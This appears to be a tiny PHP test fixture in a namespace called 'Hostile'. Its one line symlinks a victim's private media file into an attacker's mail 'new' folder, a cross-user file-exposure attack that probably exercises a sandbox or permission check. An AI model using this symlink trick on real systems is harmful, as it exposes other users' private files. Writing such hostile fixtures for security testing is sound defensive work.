<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

symlink(target()['victim']['media'] . '/private.txt', target()['attacker']['mail'] . '/new/link');
